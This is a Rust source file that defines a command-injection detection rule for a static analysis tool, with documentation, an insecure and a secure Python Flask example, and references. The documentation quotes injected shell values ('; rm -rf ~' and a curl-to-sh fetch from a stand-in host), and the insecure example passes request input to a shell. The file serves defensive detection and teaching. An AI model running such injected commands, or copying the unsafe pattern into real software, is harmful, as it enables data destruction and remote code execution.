//! Request data and other untrusted input reaching a shell command or choosing the program to run.

use crate::helpers::taint_rule::{TaintDocs, TaintRule, taint_meta};
use crate::{Rule, StaticRuleMeta};
use antivenom_taint_models::VulnerabilityClass;
use std::sync::LazyLock;

const CLASS: VulnerabilityClass = VulnerabilityClass::CommandInjection;

const DOCS: TaintDocs = TaintDocs {
    why: "Text from outside the program is built into a command line that a shell parses, or \
          names the program that is started. Whoever controls that text adds shell syntax of \
          their own (`; rm -rf ~`, `$(curl evil.example | sh)`, a backquoted command) or \
          points the call at a program they uploaded, and runs it with the permissions of the \
          application. The path shown with the finding goes from where the value enters to the \
          call that starts the process.",
    insecure_example: "
import subprocess

from flask import request

def ping():
    host = request.args[\"host\"]
    return subprocess.run(\"ping -c 1 \" + host, shell=True, capture_output=True).stdout
",
    secure_example: "
import ipaddress
import subprocess

from flask import request

def ping():
    address = ipaddress.ip_address(request.args[\"host\"])
    return subprocess.run([\"ping\", \"-c\", \"1\", str(address)], capture_output=True).stdout
",
    references: &[
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
        "https://owasp.org/www-community/attacks/Command_Injection",
        "https://cwe.mitre.org/data/definitions/78.html",
    ],
};

static META: LazyLock<StaticRuleMeta> = LazyLock::new(|| taint_meta(CLASS, &DOCS));

/// The rule's registration.
pub(crate) static RULE: &dyn Rule = &TaintRule {
    class: CLASS,
    meta: &META,
};
